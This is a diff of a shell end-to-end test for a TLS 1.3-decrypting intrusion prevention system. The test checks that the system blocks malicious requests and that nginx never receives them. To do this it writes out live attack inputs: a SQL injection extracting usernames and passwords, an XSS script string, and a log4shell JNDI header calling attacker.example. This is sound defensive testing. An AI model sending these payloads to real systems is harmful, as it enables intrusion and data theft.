@@ -66,34 +66,23 @@ netns_queue_port "$PORT" "$RUN_Q"
 netns_queue_port "$PORT2" "$RUN_Q"
 run_start ips cfg.yaml
 
-# Known limitation (docs/run.md): tls/ takes a TLS 1.3 session's secrets only
-# once all four are known, and OpenSSL servers log CLIENT_TRAFFIC_SECRET_0
-# only after the client's Finished, which is held: the session cannot start
-# inline until tls/ installs the handshake secrets on their own. Until then
-# the sessions of the preload site end at the key wait time like the one
-# below; TLSIPS_RUN_KEYLOG_FULL=1 runs the full checks.
-if [ "${TLSIPS_RUN_KEYLOG_FULL:-0}" = 1 ]; then
-    passes idx ngx/html/index.html "TLS 1.3 GET, secrets from the key socket" "${R[@]}" "$U/index.html"
-    refused sqli "TLS 1.3 SQL injection" "${R[@]}" "$U/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--&tcase=sqli"
-    refused xss "TLS 1.3 XSS" "${R[@]}" "$U/search?q=%3Cscript%3Ealert(1)%3C/script%3E&tcase=xss"
-    refused log4j "TLS 1.3 log4shell header" "${R[@]}" -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}' "$U/app?tcase=log4j"
-else
-    skip "TLS 1.3 key log sessions through the hold (needs tls/ to stage handshake secrets; TLSIPS_RUN_KEYLOG_FULL=1)"
-    refused sqli "TLS 1.3 SQL injection never reaches nginx" "${R[@]}" "$U/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--&tcase=sqli"
-fi
+# The session goes on through the hold: the handshake passes on the
+# handshake secrets (an OpenSSL server logs the client's traffic secret only
+# after reading its Finished), the request waits for the traffic secret.
+passes idx ngx/html/index.html "TLS 1.3 GET, secrets from the key socket" "${R[@]}" "$U/index.html"
+refused sqli "TLS 1.3 SQL injection" "${R[@]}" "$U/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--&tcase=sqli"
+refused xss "TLS 1.3 XSS" "${R[@]}" "$U/search?q=%3Cscript%3Ealert(1)%3C/script%3E&tcase=xss"
+refused log4j "TLS 1.3 log4shell header" "${R[@]}" -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}' "$U/app?tcase=log4j"
 refused nokeys "TLS 1.3 session whose secrets never come" "${R[@]}" "https://e2e.test:$PORT2/index.html?tcase=nokeys"
 if [ "$CURL_MS" -ge 1500 ]; then ok "it was held for the key wait time ($CURL_MS ms) before being cut"; else fail "cut after $CURL_MS ms, before the key wait time"; fi
 run_stop ips
 
 jq -e . ev.json >/dev/null || fail "events are not valid JSON lines"
-if [ "${TLSIPS_RUN_KEYLOG_FULL:-0}" = 1 ]; then
-    for n in sqli xss log4j; do
-        check_eq blocked "$(jq -r --arg n "tcase=$n" 'select(.event_type=="alert" and (.http.url // "" | contains($n))) | .alert.action' ev.json | sort -u | tr '\n' ' ' | sed 's/ $//')" "alert for $n, action blocked"
-        check_no_grep ngx/access.log "tcase=$n" "nginx never saw the $n request"
-    done
-    check_eq 0 "$(jq -r 'select(.event_type=="tls" and .dest_port == '"$PORT"' and (.tls.inspection.decrypted != true or .tls.inspection.key_source != "keylog"))' ev.json | grep -c '"flow_id"' || true)" "every session on $PORT decrypted with the key log"
-fi
-check_no_grep ngx/access.log "tcase=sqli" "nginx never saw the SQL injection"
+for n in sqli xss log4j; do
+    check_eq blocked "$(jq -r --arg n "tcase=$n" 'select(.event_type=="alert" and (.http.url // "" | contains($n))) | .alert.action' ev.json | sort -u | tr '\n' ' ' | sed 's/ $//')" "alert for $n, action blocked"
+    check_no_grep ngx/access.log "tcase=$n" "nginx never saw the $n request"
+done
+check_eq 0 "$(jq -r 'select(.event_type=="tls" and .dest_port == '"$PORT"' and (.tls.inspection.decrypted != true or .tls.inspection.key_source != "keylog"))' ev.json | grep -c '"flow_id"' || true)" "every session on $PORT decrypted with the key log"
 check_grep ips.err '^keysock: [1-9][0-9]* datagrams, [1-9][0-9]* accepted' "the preload library's secrets reached the key socket"
 check_eq "key_timeout blocked" "$(jq -r 'select(.event_type=="tls" and .dest_port == '"$PORT2"') | "\(.tls.inspection.reason) \(.tls.inspection.verdict)"' ev.json | sort -u | tr '\n' ' ' | sed 's/ $//')" "the session without secrets: key_timeout, blocked"
 check_no_grep ngx/access2.log "nokeys" "nginx without the preload never got the request"
